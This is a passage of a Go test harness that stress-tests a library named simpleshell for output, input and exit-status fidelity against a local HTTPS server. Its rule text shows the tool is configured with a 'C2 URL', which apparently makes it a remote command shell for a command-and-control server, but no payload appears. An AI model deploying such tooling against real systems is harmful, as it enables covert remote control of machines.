	defer func() { stdinOnce.Do(func() { close(stdinStop) }) }()

	switch s.Stdin.Kind {
	case "open-unread":
		pr, pw := io.Pipe()
		sh.SetInput(pr)
		go func() { <-stdinStop; pw.Close() }()
	case "data-reader":
		sh.SetInput(&scriptedReader{data: s.data, sp: s.Stdin, stop: stdinStop, handed: &handed})
	case "data-osfile":
		pr, pw, err := os.Pipe()
		if err != nil {
			res.setupErr = err.Error()
			return
		}
		defer pr.Close()
		sh.SetInput(pr)
		go func() { <-stdinStop; pw.Close() }()
		go func() {
			sr := &scriptedReader{data: s.data, sp: s.Stdin, stop: stdinStop}
			sr.sp.EOFWithLast = false
			io.CopyBuffer(countingWriter{pw, &handed}, struct{ io.Reader }{sr}, make([]byte, 1<<20))
			pw.Close()
		}()
	}

	out := sh.Output()
	goCh := make(chan error, 1)
	go func() { goCh <- sh.Go(context.Background()) }()
	consCh := make(chan consOut, 1)
	go func() { consCh <- consume(out, s.Cons, dir, s.NOut+s.NErr, stop) }()

	timer := time.NewTimer(bound)
	defer timer.Stop()
	var co consOut
	consDone := false
	select {
	case co = <-consCh:
		consDone = true
		res.terminated = !co.aborted
	case <-timer.C:
		res.timedOut = true
	}
	// An input that was left open is closed once the stream has ended, so
	// that exec's stdin copier lets Wait return.  Scripted input data is not
	// cut short: it ends by itself as long as somebody reads it.
	if consDone {
		if s.Stdin.Kind == "open-unread" {
			closeStdin(true)
		}
		select {
		case res.goErr = <-goCh:
			res.goReturned = true
		case <-timer.C:
			res.goHung = true
		}
	}
	closeStdin(!res.goReturned)
	if !consDone || res.goHung {
		// Tear down: ask the child for its counters, then kill its group.
		if pid := readPid(dir); pid != 0 {
			if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
				res.killed = true
				before := readReport(dir)
				syscall.Kill(pid, syscall.SIGTERM)
				for k := 0; k < 500; k++ {
					if st := procStat(pid); st.state == 0 || st.state == 'Z' {
						break
					}
					if rp := readReport(dir); rp != nil && rp.Kind == "partial" && (before == nil || *before != *rp) {
						break
					}
					time.Sleep(time.Millisecond)
				}
			}
		}
		cancel()
		if !res.goReturned {
			select {
			case res.goErr = <-goCh:
				res.goReturned = true
			case <-time.After(5 * time.Second):
			}
		}
		if !consDone {
			select {
			case co = <-consCh:
				consDone = true
			case <-time.After(3 * time.Second):
			}
		}
		if !consDone {
			closeStop()
			out.Close()
			select {
			case co = <-consCh:
				consDone = true
			case <-time.After(5 * time.Second):
			}
		}
	}
	if consDone {
		res.got, res.termErr, res.afterExit, res.reads = co.got, co.err, co.afterExit, co.reads
	}
	if res.goReturned && cmd.ProcessState != nil {
		res.procKnown = true
		res.procExit = cmd.ProcessState.ExitCode()
		res.procState = cmd.ProcessState.String()
		if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			res.procSignaled = true
			res.procSignal = ws.Signal()
		}
	}
	if !res.killed {
		// The shell may not have waited for the child (ProcessState unknown):
		// give the child a moment to finish on its own.
		for k := 0; k < 2000; k++ {
			if res.procKnown || childState(dir) == 2 {
				res.exitedOnOwn = true
				break
			}
			time.Sleep(time.Millisecond)
		}
	}
	res.rep = readReport(dir)
	res.handed = int(handed.Load())
	if s.Mode == "cat" {
		res.seen, _ = os.ReadFile(filepath.Join(dir, "stdin.seen"))
	}
	// Belt and braces: nothing of this case may stay behind.
	cancel()
	if pid := readPid(dir); pid != 0 {
		if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
			syscall.Kill(-pid, syscall.SIGKILL)
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	return
}

// ---- oracle -------------------------------------------------------------------

type finding struct{ key, what string }

type verdict struct {
	viol     []finding
	inconcl  []string
	timeout  bool
	gotOut   int
	gotErr   int
	complete bool // every expected byte arrived
}

func errStr(e error) string {
	if e == nil {
		return "<nil>"
	}
	return e.Error()
}

func firstBad(b []byte, base byte) int {
	for i, c := range b {
		if c != base+byte(pos(i)) {
			return i
		}
	}
	return -1
}

func commonPrefix(a, b []byte) int {
	n := min(len(a), len(b))
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			return i
		}
	}
	return n
}

// endedAsPlanned: did the child end the way the case says (exit status, or
// death by the planned signal)?
func (s *spec) endedAsPlanned(exit int, signaled bool, sig syscall.Signal) bool {
	if s.Sig != "" {
		return signaled && sig == sigNum[s.Sig]
	}
	return !signaled && exit == s.Exit
}

func judge(s *spec, res *result) (v verdict) {
	add := func(key, f string, a ...any) { v.viol = append(v.viol, finding{key, fmt.Sprintf(f, a...)}) }
	if res.setupErr != "" {
		v.inconcl = append(v.inconcl, fmt.Sprintf("case %d: setup failed: %s", s.Index, res.setupErr))
		return
	}
	// What did the child write?  known: exact counts; lower: at least these.
	var wroteOut, wroteErr int
	known, lower := false, false
	if rp := res.rep; rp != nil {
		wroteOut, wroteErr = rp.Out, rp.Err
		switch rp.Kind {
		case "done":
			known = true
		case "partial":
			lower = true
		case "pre":
			if res.procKnown {
				known = s.endedAsPlanned(res.procExit, res.procSignaled, res.procSignal)
			} else {
				known = s.Flavor == "perl" && res.exitedOnOwn && !res.killed
			}
		}
	}

	var outB, errB []byte
	if s.Mode == "pattern" {
		outB = make([]byte, 0, len(res.got))
		errB = make([]byte, 0, len(res.got))
		junk := -1
		for i, c := range res.got {
			switch {
			case c >= 'a' && c <= 'z':
				outB = append(outB, c)
			case c >= 'A' && c <= 'Z':
				errB = append(errB, c)
			default:
				if junk < 0 {
					junk = i
				}
			}
		}
		v.gotOut, v.gotErr = len(outB), len(errB)
		if junk >= 0 {
			add("output-corrupt", "byte %#02x at offset %d of Output() belongs to neither descriptor's alphabet (context %q)", res.got[junk], junk, res.got[max(0, junk-8):min(len(res.got), junk+24)])
		}
		if i := firstBad(outB, 'a'); i >= 0 {
			add("output-corrupt", "stdout bytes are not the sequence the child wrote: first wrong byte at stdout offset %d (got %q, want %q) of %d received", i, outB[i], 'a'+byte(pos(i)), len(outB))
		}
		if i := firstBad(errB, 'A'); i >= 0 {
			add("output-corrupt", "stderr bytes are not the sequence the child wrote: first wrong byte at stderr offset %d (got %q, want %q) of %d received", i, errB[i], 'A'+byte(pos(i)), len(errB))
		}
		if len(outB) > s.NOut || len(errB) > s.NErr {
			add("output-corrupt", "more bytes delivered than the child can have written: stdout %d of %d, stderr %d of %d", len(outB), s.NOut, len(errB), s.NErr)
		}
	} else {
		v.gotOut = len(res.got)
		// stdin: bytes seen by the child against bytes sent
		if p := commonPrefix(res.seen, s.data); p < len(res.seen) {
			if p < len(s.data) {
				add("stdin-corrupt", "the child's stdin differs from the input stream at offset %d (child saw %#02x, sent %#02x; %d seen, %d sent)", p, res.seen[p], s.data[p], len(res.seen), len(s.data))
			} else {
				add("stdin-corrupt", "the child saw %d bytes on stdin, only %d were sent", len(res.seen), len(s.data))
			}
		} else if res.rep != nil && res.rep.Kind == "done" {
			// the child saw end of input; everything the shell was given before must have arrived
			want := len(s.data)
			if res.stdinCut {
				want = res.handed
			}
			if len(res.seen) < want {
				add("stdin-truncated", "the child saw end of input after %d of the %d bytes available through SetInput (the shell took %d of them from the reader)", len(res.seen), want, res.handed)
			}
		}
		// stdout: what arrived against what the child copied
		if p := commonPrefix(res.got, res.seen); p < len(res.got) {
			add("output-corrupt", "Output() differs from what the child wrote at offset %d (%d received, child wrote %d)", p, len(res.got), len(res.seen))
		}
	}

	if res.timedOut {
		v.timeout = true
		return
	}
	if !res.terminated {
		v.inconcl = append(v.inconcl, fmt.Sprintf("case %d: consumer aborted without a terminal condition", s.Index))
		return
	}
	if known || lower {
		if v.gotOut < wroteOut {
			add("stdout-truncated", "Output() ended (%s) after %d of the %d stdout bytes the child had written", errStr(res.termErr), v.gotOut, wroteOut)
		}
		if v.gotErr < wroteErr {
			add("stderr-truncated", "Output() ended (%s) after %d of the %d stderr bytes the child had written", errStr(res.termErr), v.gotErr, wroteErr)
		}
		if known && s.Mode == "pattern" && (wroteOut != s.NOut || wroteErr != s.NErr) {
			v.inconcl = append(v.inconcl, fmt.Sprintf("case %d: child reports %d/%d bytes written, plan was %d/%d", s.Index, wroteOut, wroteErr, s.NOut, s.NErr))
		}
		if known && v.gotOut == wroteOut && v.gotErr == wroteErr {
			v.complete = true
		}
	} else {
		v.inconcl = append(v.inconcl, fmt.Sprintf("case %d: the child left no usable account of what it wrote (report %+v, exit known %v code %d)", s.Index, res.rep, res.procKnown, res.procExit))
	}
	if !errors.Is(res.termErr, io.EOF) {
		add("output-ends-with-error", "Output() ended with %q instead of io.EOF although the child ran and ended on its own (%s)", errStr(res.termErr), s.exitDesc())
	}
	switch {
	case res.goHung:
		v.inconcl = append(v.inconcl, fmt.Sprintf("case %d: Go had not returned when the bound expired although Output() had ended and the input was closed", s.Index))
	case res.goReturned && (s.Exit != 0 || s.Sig != "") && !res.killed:
		if res.procKnown && !s.endedAsPlanned(res.procExit, res.procSignaled, res.procSignal) {
			v.inconcl = append(v.inconcl, fmt.Sprintf("case %d: child exited %d (signaled %v: %v), planned %s", s.Index, res.procExit, res.procSignaled, res.procSignal, s.exitDesc()))
		} else if res.goErr == nil && s.Sig != "" {
			add("signal-death-not-reported", "the child was killed by SIG%s (wait status: %s) and Go returned nil", s.Sig, res.procState)
		} else if res.goErr == nil {
			add("nonzero-exit-not-reported", "the child exited with status %d and Go returned nil", s.Exit)
		}
	}
	return
}

// ---- driver -------------------------------------------------------------------

func short(b []byte) string {
	if len(b) > 40 {
		return fmt.Sprintf("%q…(%d bytes)", b[:40], len(b))
	}
	return fmt.Sprintf("%q", b)
}

func witness(s *spec, res *result, v verdict, dir string) map[string]any {
	_, text := s.script(dir)
	if len(text) > 6000 {
		text = text[:3000] + "\n…(plan shortened)…\n" + text[len(text)-1500:]
	}
	w := map[string]any{
		"mode": s.Mode, "flavor": s.Flavor, "child_script": text,
		"stdout_bytes_planned": s.NOut, "stderr_bytes_planned": s.NErr,
		"write_sizes": s.WOut + "/" + s.WErr, "interleave": s.Interleave, "close_early": s.CloseEarly,
		"exit_status": s.Exit, "killed_by_own_signal": s.Sig, "wait_status": res.procState, "exit_mode": s.ExitMode, "linger_ms": s.LingerMs,
		"stdin": s.Stdin, "consumer": s.Cons,
		"consumer_started_after_child_exit": res.afterExit,
		"stdout_bytes_received":             v.gotOut, "stderr_bytes_received": v.gotErr,
		"output_terminal_condition": errStr(res.termErr), "output_ended_within_bound": res.terminated,
		"go_returned": res.goReturned, "go_error": errStr(res.goErr),
		"child_report": fmt.Sprintf("%+v", res.rep), "reads": res.reads, "wall_ms": res.wall.Milliseconds(),
	}
	if s.Mode == "cat" {
		w["stdin_bytes_seen_by_child"] = len(res.seen)
		w["stdin_bytes_taken_by_shell"] = res.handed
		w["stdin_head"] = short(s.data)
	}
	return w
}

func Run(r *mon.Run) {
	r.Rule = "one case = one generated child program (perl syswrite plan, or sh+dd) run through simpleshell.NewCmdShell with one scripted consumer of Output() and one stdin arrangement; stdout carries a–z and stderr A–Z, byte at offset o = base+(o*7+o/251)%26, so the merged stream is split and each side compared with what the child reports having written; cat-mode cases (every 5th) send PRNG bytes through SetInput and compare the child's stdin log and Output() with them; every 5th pattern case and every 5th cat case ends by a signal to itself (KILL TERM SEGV ABRT HUP USR1 in turn) instead of exit, and Go must then return an error. Engine e2e: the same pattern children run through simpleshell.Go against a harness HTTPS server (HTTP/1.1 and HTTP/2 alternate) whose handler reads the request body on a script (keeps up for a while, then lags, reads nothing from the child's exit until some time after a few lines of late input, then reads the rest), feeds early input the child reads and logs, and ends the response after the request body has ended; the bytes the server read up to the end of the request body, split by alphabet, must be what the child reports having written, the body must end cleanly, and simpleshell.Go must return an error for a non-zero exit or a death by signal. Engine ctx (how the command was built and how it ends): the *exec.Cmd given to NewCmdShell is made by exec.Command, by exec.CommandContext with the default Cancel (Kill), with a Cancel that sends SIGTERM (the child's handler reports and exits 98, or the child ignores it), or with Cancel set back to nil, each with or without a WaitDelay of the caller's own (200 ms to 3 s); stall after the cancellation (0, 0.3, 1.2, 2.5, 6.5 s, and 21.5 s after a command that ended by itself with 40-98 KB pending on one descriptor only; thorough also 1.6, 3.5, 5.5, 11 and 32 s), build and cancellation point go by case index, so every (build, stall) pair occurs at every seed. The consumer first reads an exact number of bytes (0 to 400 000), only then the child goes on (gate file) and writes 0 to 98 304 more bytes per descriptor, reporting after every write; the command's context is cancelled when the child has been seen at the scripted point - blocked in a further 256 KiB write or pausing before its last write (mid-write), lingering after its last write, already exited, or never - and the consumer reads nothing until the stall is over, then drains on a fast, chunked or slow schedule. The input is an io.Pipe left open (empty or with unread data), an *os.File pipe left open, nil, or a reader at EOF. Whatever ended the child (SIGKILL by the context, its SIGTERM handler, the Kill after the caller's WaitDelay, or its own exit), every byte of its last report must have arrived when Output() reports io.EOF; an Output() that ends with an error after a cancellation is counted, not judged, when the caller set a WaitDelay (os/exec then closes the pipes when it expires) and is a violation when the caller set none; without a cancellation it must end with io.EOF; an unsuccessful wait status with a nil return of Go is a violation. Engine leave (the consumer leaves): the consumer of Output() reads an exact number of bytes (0 to 400 000, fast / odd chunks / slow) and then closes the reader - Close at once, Close after a pause of up to 40 ms without reading, Close from a second goroutine while a Read is pending, or CloseWithError when the reader offers it - while the child is running: before its further writes (the child waits at a gate file the harness creates after Close has returned; 1 byte to half a pipe more per descriptor), during paced small writes, while it is blocked in one write of 3 to 6 pipe buffers, after its last write, or (cat child) before the rest of the input arrives, which the child then copies to stdout; 0 to 16 KiB are written and unread at that moment; end (exit 0, non-zero, a signal to itself - the six in turn -, context cancelled with SIGKILL, context cancelled with SIGTERM which the child's handler turns into exit 98) and moment go by case index so that every pair occurs in any 64 consecutive cases (a child blocked in a write is always ended by its context, the cat child never); the input is nil, an io.Pipe left open (empty or with unread data), an *os.File pipe left open, a reader at EOF, scripted data the child reads to its end before it ends, or the cat child's data in two parts; verdicts: the wait status exec.Cmd recorded is unsuccessful and Go returned nil = violation (same keys as in the other engines), the bytes delivered before the consumer left are not a correct per-descriptor prefix (cat: a prefix of the input) = violation; with a successful exit either return value is accepted and counted (go_error_on_clean_exit). Engine leave-e2e: the same through simpleshell.Go against the harness HTTPS server (HTTP/1.1 and HTTP/2 alternate): the handler reads an exact number of bytes of the request body (0 to 400 000) and goes away while the child waits at the gate - closes the TLS connection, resets the TCP connection, panics with http.ErrAbortHandler, or returns; the child writes a first part, the harness waits (2 s at most) until net/http has closed the reader it got from Output() (seen through a Shell that embeds the CmdShell and records Close), the child writes a second part and ends (exit 0, non-zero, signal to itself, context cancelled); an unsuccessful wait status with a nil return of simpleshell.Go is a violation. Engine input (fidelity of the input side under chunking; runs beside engine ctx): a cat-like child (a perl program that logs every byte of its stdin with syswrite and echoes it, /bin/cat, or a perl byte counter with a SHA-256) run through NewCmdShell gets its input through every kind of reader a caller may give to SetInput - a reader whose every Read returns one scripted chunk, io.Pipe and net.Pipe (one Write per chunk), a unix stream socket and an *os.File pipe (one write per chunk, each handed over only when the child has logged everything before it), io.MultiReader over one bytes.Reader per chunk, bytes.Reader, bufio.Reader, a regular file - and, through simpleshell.Go, through the body of an HTTPS response (HTTP/1.1 and HTTP/2: one Write+Flush per chunk, handed over when the child has logged everything before it; the child reads exactly the data and the server appends 4096 bytes of padding, so that lost bytes show as wrong bytes instead of a child that waits). The content of a case is a list of chunks; five of them begin with a byte sequence picked by case index from a list of 61 (UTF-8/16/32/7/GB18030 byte order marks and parts of one, NUL, ^D, ^Z, ^C, ^\\, ^U, XON/XOFF, DEL, BS, CR, LF, CRLF and friends, ESC and escape sequences incl. bracketed paste, C1 CSI, 0xFF, telnet IAC sequences, '~.' escapes, '+++', invalid and odd UTF-8, a chunked-encoding terminator, an HTTP status line, 'EOF', 'exit'), end with another one, consist of nothing else, or carry it twice; between them one sequence split across two chunks (CR|LF, the BOM 1|2 and 2|1, ESC sequences, IAC, '~'|'.', a euro sign, FF|FE, NUL|NUL), a lone NUL chunk, lone CR then lone LF chunks, zero-length reads (scripted reader, io.Pipe, net.Pipe) and filler chunks of up to 32 KiB of PRNG bytes or text; kind of reader and sequences go by index so that at every seed every sequence leads a read of every kind of reader (for bytes.Reader, bufio.Reader and the regular file: leads the stream). Verdicts: the child's stdin log (or what /bin/cat sent back on Output(), or the counter's n and SHA-256) is not exactly the bytes sent, in order = violation (stdin-corrupt:input, echo-differs-from-input:input, stdin-digest-differs:input); the child saw the end of its input with bytes missing = stdin-truncated:input; the reader is kept open 10 or 40 ms after the child has logged the last byte and the child must not have reported end of input by then (stdin-eof-before-end-of-input:input); the child (which ends at the end of its input) must end and Output() report io.EOF within 30 s, re-run alone with 60 s, else output-stream-does-not-end:input; Output() must equal what the child echoed and end with io.EOF. Engine cli (the command-line tool, configuration matrix; runs beside all the other engines): lib/simpleshell/cmd/simpleshell is built (go build -race, as the harness) and run as a child process against the harness HTTPS server (HTTP/1.1 and HTTP/2 alternate) with the same pattern children; its three settings come from every documented source - C2 URL from -c2, SIMPLESHELL_C2 or -ldflags -X main.C2; fingerprint from -fingerprint, SIMPLESHELL_FP, -X main.Fingerprint (with or without sha256//) or none at all (normal TLS validation, the harness certificate as SSL_CERT_FILE); command from the command line (with or without a preceding --), SIMPLESHELL_ARGS (separators space , | : newline tab) or -X main.Args - in a dozen hand-picked combinations (all on the command line, all in the environment, all compiled in, mixed ones with an empty command line) followed by the full product 3x4x3, by case index; flags spelled -f v, -f=v, --f v, --f=v by index; binaries with compiled-in values are built on first use for a server shared by the cases of one protocol, which take turns. The command writes 4 to 7 MiB (every fourth case 0 to 256 KiB) over both descriptors and ends by exit 0, a non-zero exit or a signal to itself (two of three cases unsuccessfully, by index); the server reads on a script that by index lags 0.3, 0.6, 1.2, 1.5, 2.2, 3, 4 or 6 s behind the command's end: lag-stall = keeps up for a while, then until the command has exited (once no more than 1.5 MiB - HTTP/1.1: 4 MiB - are left to read) reads a chunk of 4 or 8 KiB only when the command cannot go on (it sleeps in a write to a pipe - /proc/<pid>/wchan - or sleeps while a pipe to the tool holds 56 KiB or more; also after 500 ms without a read, for liveness, and without looking once 5 s have passed), so that at any speed of either side the command exits with a full pipeline behind it and its last output is still in the pipes to the tool or inside the tool: measured with FIONREAD through /proc/<tool>/fd and, on HTTP/2, as what the server has not read beyond its 1 MiB receive window), reads nothing for the lag, then drains; slow-tail = keeps up until the command has exited and spreads the rest over the lag; the server sends early input (a third of the cases) and ends the response only after the request body has ended. Verdicts: as in engine e2e (keys ...:cli) on what the server read up to the end of the request body, and the body must end cleanly; the wrapped command ran to its last statement (report written, exit seen in /proc), which is exit N with N != 0 or a signal to itself, and the tool reported nothing = nonzero-exit-not-reported:cli / signal-death-not-reported:cli, where reported means ANY of: non-zero exit status of the tool, death of the tool by a signal, anything on its standard error, anything on its standard output (the tool documents neither a status nor a message; its source logs \"Error: ...\" to standard error and exits 0). distinct_nontrivial = distinct (mode, flavor, sizes, write sizes, interleaving, exit status/mode, stdin arrangement, consumer schedule) signatures among cases that move at least one byte"
	r.Assumptions = []string{
		"the child's own account (report file written through rename, exit status 97/98 on a failed or interrupted write) is the ground truth of what it wrote",
		"child exit is observed through /proc/<pid>/stat (zombie or gone)",
		"grand-children that keep the pipes open are not generated",
		"Linux pipe capacity 64 KiB: the consumer that starts after the child's exit degrades to a late starter (150 ms) when the output cannot fit",
		"bound per case 30 s; a case whose Output() has not ended by then is re-run alone with 60 s (at most 2 per run)",
		"a child that ends by a signal sends it to itself (perl kill / sh kill -s) after its last write and its report; the wait status seen by exec.Cmd confirms the death by that signal before the case counts",
		"e2e: the harness HTTPS server (net/http, fresh self-signed P-256 certificate, HTTP/1.1 or HTTP/2 by case) enables full duplex and flushes the header at once like the /io handler; it ends the response only after the request body has ended, so that an unread rest is never the server's doing; the process outlives every simpleshell.Go call (library use)",
		"ctx: the child's report file is rewritten (write + rename) after every write of the part the consumer has not read, so the last report is a lower bound of what it wrote even when SIGKILL ends it, and exact when its SIGTERM handler or its own last step wrote it",
		"ctx: the scripted point is observed through the report file and /proc (10 s bound; a case whose child was not seen there is cancelled anyway and counts as ctx_point_not_reached); the stall is a sleep of the harness and only decides what is exercised, never the verdict; the unread amounts fit in a 64 KiB pipe plus the relay's first read, so the child is not blocked before the point",
		"ctx: an input left open is closed once Output() has ended so that Go can return; Output() has 30 s to end (then the same re-run rule)",
		"leave / leave-e2e: once the consumer has left nobody drains the child's pipes, so a child that fills one never ends by itself and the property promises nothing about it: what a child that is to end by itself writes after the consumer has left stays within half a pipe per descriptor (a quarter when output was unread at that moment), and only a child that its context ends is put into a write of several pipe buffers",
		"leave / leave-e2e: that the consumer left while the child was running, that the child wrote again afterwards (its report after every write, compared with the report read just before the Close; cat child: bytes written against the size of its stdin log at that moment) and how it ended (wait status) are measured, not assumed: floors on leave_unsuccessful_exit_after_further_writes_cases and leave_e2e_unsuccessful_exit_after_writes_on_closed_output_cases; the waits for the child's report, for its exit (30 s per case) and for net/http's Close (2 s) decide only what is exercised; a Go that has not returned 30 s after the start although the child has exited and an input left open was closed is inconclusive (and below the floor leave_go_returned_cases), never a violation: the property does not say when Go returns for a consumer that has gone",
		"leave-e2e: wrapping the CmdShell in another Shell only replaces the reader net/http gets by one that forwards Read and Close and records the Close; the server flushes the response header before it reads, so simpleshell.Go has started the command before the server goes away; an HTTP/1.1 server that returns from or aborts its handler keeps draining the request body for a while, so net/http may not close Output()'s reader in those cases (counted as leave_e2e_output_not_seen_closed_within_2s_cases)",
		"input: the child's stdin log (syswrite per read, so its size is what the child has seen so far) and its report file (written only once read() returned 0) are the ground truth of what reached its stdin and of when it saw the end; a hand-over waits at most 2 s for the log to reach what was sent (after one expired wait the case stops waiting) and only decides what counts as exercised: a chunk of a socket, *os.File pipe or response body counts as leading a read only when the child had logged everything before it; for bytes.Reader, io.MultiReader and the regular file nothing of the harness stands between the reader and os/exec, so the chunks count once the case has ended; the HTTP kinds end the response only when the request body has ended",
		"cli: the tool is a child of the harness in a process group of its own with an environment of HOME, PATH, LC_ALL, C14_CHILD (the child program, for the compiled-in command /bin/sh run.sh) and GORACE (race reports go to the harness's race log, never to the tool's standard error) plus the variables of the case; its standard input is /dev/null, its standard output and error are collected by the harness; the wrapped command's descriptors are the tool's pipes, so nothing the command writes can appear on the tool's own descriptors",
		"cli: the server sends no input after the command has exited and ends the response only once the request body has ended, so an unread rest or a missing report is never the server's doing; a tool that has not exited 30 s after the start although the response has ended is inconclusive; a request body that has not ended by then is re-run alone with 60 s (same rule as e2e); a tool that exits before any request reached the server (a configuration the harness got wrong) is inconclusive",
		"cli: how far the request body's end was behind the command's exit, what the server had not read and what was still in the pipes between command and tool at that moment are measured per case and floored (cli_cases_..._behind), never part of a verdict; a server receive buffer below 64 KiB is not used (on loopback the sender then waits on persist timers for minutes, whoever the sender is)",
		"e2e: child exit is observed through /proc before the late input is sent; what the server read is compared only once the request body has reported its end (30 s bound, then the same re-run rule)",
	}
	// SEGV and ABRT deaths must not leave core files behind
	syscall.Setrlimit(syscall.RLIMIT_CORE, &syscall.Rlimit{Cur: 0, Max: 0})
	// the cli engine is mostly asleep (the servers' lags) or waiting for its
	// turn at a shared server: it runs beside all the others
	cliDone := make(chan struct{})
	go func() { defer close(cliDone); runCLIEngine(r) }()
	runCaseEngine(r)
	runE2EEngine(r)
	// the input engine is short and busy, the ctx engine long and mostly asleep
	// (its stalls): they run side by side
	inputDone := make(chan struct{})
	go func() { defer close(inputDone); runInputEngine(r) }()
	runCtxEngine(r)
	<-inputDone
	runLeaveEngine(r)
	runLeaveE2EEngine(r)
	<-cliDone
	// no process of ours may be left behind
	if !r.Replaying() {
		r.Count("orphans_killed", int64(reapOrphans(r.Work)))
	}
}

func runCaseEngine(r *mon.Run) {
	if !r.WantEngine(engine) {
		return
	}
	n := r.N(120, 3000)
	var mu sync.Mutex
	var timeouts []int
	sampled := map[string]bool{}

	one := func(i int, bound time.Duration, retry bool) (timedOut bool) {
		s := genSpec(r, i)
		dir := filepath.Join(r.Work, fmt.Sprintf("c%d", i))
		if retry {
			dir += "r"
		}
		res := runCase(s, dir, bound)
		v := judge(s, res)
		if !retry {
			r.Eval(1)
			if s.NOut+s.NErr+s.Stdin.N > 0 {
				r.Distinct(s.sig())
			}
			r.Count("cases", 1)
			r.Count("cases_"+s.Mode+"_"+s.Flavor, 1)
			r.Count("stdout_bytes_expected", int64(s.NOut))
			r.Count("stderr_bytes_expected", int64(s.NErr))
			r.Count("stdout_bytes_received", int64(v.gotOut))
			r.Count("stderr_bytes_received", int64(v.gotErr))
			r.Count("consumer_reads", int64(res.reads))
			if res.afterExit {
				r.Count("consumer_started_after_exit_cases", 1)
			}
			if s.Cons.Kind == "slow" {
				r.Count("slow_reader_cases", 1)
			}
			r.Count("consumer_"+s.Cons.Kind+"_cases", 1)
			if s.Sig != "" {
				r.Count("signal_exit_planned_cases", 1)
				// counted when the wait status says so, not because it was planned
				if res.procKnown && s.endedAsPlanned(res.procExit, res.procSignaled, res.procSignal) {
					r.Count("signal_exit_cases", 1)
					r.Count("signal_exit_cases_"+s.Sig, 1)
					r.Count("signal_exit_cases_"+s.Mode, 1)
					if res.goErr != nil {
						r.Count("signal_exit_reported", 1)
					}
					if v.complete {
						r.Count("signal_exit_cases_complete_and_exact", 1)
					}
				}
			} else if s.Exit != 0 {
				r.Count("nonzero_exit_cases", 1)
				if res.goReturned && res.goErr != nil {
					r.Count("nonzero_exit_reported", 1)
				}
			} else if res.goReturned && res.goErr != nil {
				r.Count("go_error_on_clean_exit", 1)
			}
			if s.Stdin.Kind == "data-reader" || s.Stdin.Kind == "data-osfile" {
				r.Count("stdin_cases", 1)
				r.Count("stdin_bytes", int64(s.Stdin.N))
			}
			if s.Mode == "cat" {
				r.Count("stdin_bytes_seen_by_child", int64(len(res.seen)))
			}
			if s.ExitMode == "immediate" {
				r.Count("exit_immediately_after_last_write_cases", 1)
			}
			if s.CloseEarly != "" {
				r.Count("descriptor_closed_early_cases", 1)
			}
			if s.Stdin.Kind == "open-unread" {
				r.Count("stdin_left_open_cases", 1)
			}
			if res.terminated {
				if errors.Is(res.termErr, io.EOF) {
					r.Count("eof_terminations", 1)
				} else {
					r.Count("error_terminations", 1)
				}
			}
			if v.complete {
				r.Count("cases_complete_and_exact", 1)
			}
			if res.goHung || !res.goReturned {
				r.Count("go_did_not_return_in_time", 1)
			}
			if res.killed {
				r.Count("children_killed_by_harness", 1)
			}
			if res.wall > 4*time.Second {
				r.Count("cases_longer_than_4s", 1)
				r.Logf("case %d took %s: %s", i, res.wall.Round(time.Millisecond), s.sig())
			}
		}
		dirClean := func() { os.RemoveAll(dir) }
		defer dirClean()
		seen := map[string]bool{}
		for _, f := range v.viol {
			if seen[f.key] {
				continue
			}
			seen[f.key] = true
			r.Violate(engine, i, f.key, fmt.Sprintf("case %d (%s, %d/%d bytes, %s %s, consumer %s): %s", i, s.Mode, s.NOut, s.NErr, s.exitDesc(), s.ExitMode, s.Cons.Kind, f.what), witness(s, res, v, dir))
		}
		for _, m := range v.inconcl {
			r.Inconclusive(m)
		}
		if v.timeout {
			if retry {
				r.Violate(engine, i, "output-stream-does-not-end", fmt.Sprintf("case %d (%s, %d/%d bytes, %s, consumer %s): Output() had not ended %s after the start, also when the case ran alone; %d stdout and %d stderr bytes had arrived", i, s.Mode, s.NOut, s.NErr, s.exitDesc(), s.Cons.Kind, bound, v.gotOut, v.gotErr), witness(s, res, v, dir))
			}
			return true
		}
		if retry {
			r.Inconclusive(fmt.Sprintf("case %d: Output() did not end within 30 s under load but did when run alone", i))
		}
		mu.Lock()
		if !sampled[s.Mode] && !retry && len(s.Ops) <= 40 && (s.NOut+s.NErr) >= 10 {
			sampled[s.Mode] = true
			mu.Unlock()
			r.Sample(s.Mode, witness(s, res, v, dir))
		} else {
			mu.Unlock()
		}
		return false
	}

	bound := 30 * time.Second
	if r.Replaying() {
		for i := 0; i < n; i++ {
			if r.Want(engine, i) {
				if one(i, bound, false) {
					one(i, 2*bound, true)
				}
			}
		}
		return
	}
	mon.Parallel(n, workers, func(i int) {
		if one(i, bound, false) {
			mu.Lock()
			timeouts = append(timeouts, i)
			mu.Unlock()
		}
	})
	r.Count("cases_not_ended_within_bound", int64(len(timeouts)))
	for k, i := range timeouts {
		if k >= maxRetry {
			r.Inconclusive(fmt.Sprintf("case %d: Output() did not end within %s; not re-run alone (only the first %d are)", i, bound, maxRetry))
			continue
		}
		one(i, 2*bound, true)
	}
	r.Floor("cases", int64(n*9/10))
	r.Floor("consumer_started_after_exit_cases", int64(n/10))
	r.Floor("slow_reader_cases", int64(n/10))
	r.Floor("nonzero_exit_cases", int64(n/5))
	r.Floor("signal_exit_cases", int64(n/6))
	for _, sg := range sigSet {
		r.Floor("signal_exit_cases_"+sg, int64(n/60))
	}
	r.Floor("signal_exit_cases_complete_and_exact", int64(n/10))
	r.Floor("stdin_cases", int64(n/6))
	r.Floor("stdin_bytes", 100_000)
	r.Floor("stdout_bytes_received", 1_000_000)
	r.Floor("stderr_bytes_received", 1_000_000)
	r.Floor("eof_terminations", int64(n/2))
	r.Floor("cases_complete_and_exact", int64(n/2))
}

// reapOrphans kills any live child of this process whose command line
// mentions the work directory and returns how many there were.
func reapOrphans(work string) int {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return 0
	}
	n := 0
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		cl, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err != nil || !bytes.Contains(cl, []byte(work)) {
			continue
		}
		if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pid != os.Getpid() {
			syscall.Kill(pid, syscall.SIGKILL)
			n++
		}
	}
	return n
}

package c14

